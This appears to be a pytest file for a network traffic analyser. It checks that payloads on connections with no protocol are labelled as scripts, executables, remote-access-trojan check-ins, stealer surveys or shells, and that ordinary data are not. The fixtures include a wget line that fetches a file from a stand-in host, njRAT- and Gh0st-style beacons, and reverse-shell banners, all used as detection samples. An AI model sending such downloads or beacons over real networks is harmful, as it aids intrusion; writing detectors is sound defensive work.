"""Connections without a protocol: what is said on them is named, and ordinary data are not."""

import struct
import zlib

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

PE = b"MZ\x90\0" + bytes(56) + b"\x80\0\0\0" + bytes(64) + b"PE\0\0" + bytes(400)
ELF = b"\x7fELF\x02\x01\x01" + bytes(200)
NJRAT = (
    b"149\0ll|'|'|SGFja2VkX0Q0OUU2MDQ3|'|'|USER-PC|'|'|admin|'|'|18-12-10|"
    b"'|'||'|'|Win 7 Professional SP1 x86|'|'|No|'|'|0.7d|'|'|..|'|'|"
)
PIPES = b"ping|RAT|A4BA3647|DESKTOP-1A2B3C4|admin|Microsoft Windows 10 Pro|64-bit|nan-av|1.6|DE:Germany|Idle"
SURVEY = (
    b"Time: 03/07/2026<br>User Name: zhao<br>Computer Name: USER-PC<br>OSF"
    b"ullName: Windows 10<br>CPU: x<br>RAM: 4 GB<hr>"
)
PACKED = zlib.compress(b"host and system" * 9)
GHOST = b"Gh0st" + struct.pack("<II", 13 + len(PACKED), 135) + PACKED
CMD = b"Microsoft Windows [Version 10.0.19045]\r\n(c) Microsoft Corporation.\r\n\r\nC:\\Users\\zhao>"
SH = (
    b"bash: cannot set terminal process group (812): Inappropriate ioctl for device\n"
    b"bash: no job control in this shell\nwww-data@web:/$ "
)

#: What was said, by the client (True) or the server, and who is the event's source then.
SAID = [
    ("script", True, b"#!/bin/sh\nwget http://192.0.2.1/x\n"),
    ("script", False, b"#!/usr/bin/env python3\nimport os\n"),
    ("program", False, PE),
    ("program", False, (2000).to_bytes(4, "little") + PE),
    ("program", True, ELF),
    ("check-in", True, NJRAT),
    ("check-in", True, PIPES),
    ("check-in", True, GHOST),
    ("survey", True, SURVEY),
    ("shell", True, CMD),
    ("shell", False, SH),
]


@pytest.mark.parametrize(("what", "of_client", "data"), SAID)
def test_what_is_said_is_named(what, of_client, data, session, talk):
    both = session(4444).opened().send(not of_client, data, 24).closed()
    heard = talk(both)
    event = heard.only("other")
    assert event.text("event.action") == what
    assert event.text("event.dataset") == "pcap.payload"
    assert event.text("source.ip") == ("192.0.2.10" if of_client else "198.51.100.20")
    assert heard.only("flow").text("network.protocol") == ""


def test_a_prompt_and_typed_commands_are_a_shell(session, talk):
    both = (
        session(9001)
        .opened()
        .answers(b"id\n")
        .asks(b"uid=33(www-data) gid=33(www-data)\n$ ")
        .answers(b"ls\n")
    )
    assert talk(both).only("other").text("event.action") == "shell"


def test_a_bot_that_only_keeps_its_line_open(session, talk):
    both = session(48101).opened().asks(b"\0\0\0\1\4x86.")
    for _ in range(3):
        both.asks(b"\0\0").answers(b"\0\0")
    assert talk(both).only("other").text("event.action") == "check-in"


@pytest.mark.parametrize(
    "data",
    [
        b"hello world, this is a line of text\n",
        b"GET / HTTP/1.1\r\nHost: portal.example\r\n\r\n",
        b"1;2;3;4;5;6;7;8\n",
        b"2026-03-02 08:00:00|INFO|service started|Windows Server 2019|port 8080\n",
        b"name: zhao\nversion: 1\nkind: Deployment\n",
        b"C:\\Users\\zhao> is a prompt\n",
        b"MZ this is no program",
        bytes(range(256)) * 4,
        b'\x01\x02\x03\x04{"json": "Linux 5.4 x86_64"}',
        b"%!PS-Adobe-3.0\n",
    ],
)
def test_ordinary_data_are_not_named(data, session, talk):
    assert talk(session(9100).opened().asks(data).closed()).of("other") == []


def test_stolen_passwords_are_not_kept(session, talk):
    data = SURVEY + b"Host: portal.example<br>Username: zhao<br>Password: Wy8-Geheim<br>"
    heard = talk(session(44523).opened().asks(data).closed())
    assert heard.only("other").text("event.action") == "survey"
    assert "Wy8-Geheim" not in repr([event.fields for event in heard.events])


def test_a_script_over_udp(frames, hear):
    heard = hear(frames.capture([(0, frames.datagram(b"#! /bin/bash\necho x\n", dport=33333))]))
    assert heard.only("other").text("event.action") == "script"


@settings(max_examples=80, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(st.binary(max_size=300), st.binary(max_size=300))
def test_anything_is_survived(session, talk, asked, answered):
    assert len(talk(session(4444).opened().asks(asked).answers(answered).closed()).of("flow")) == 1
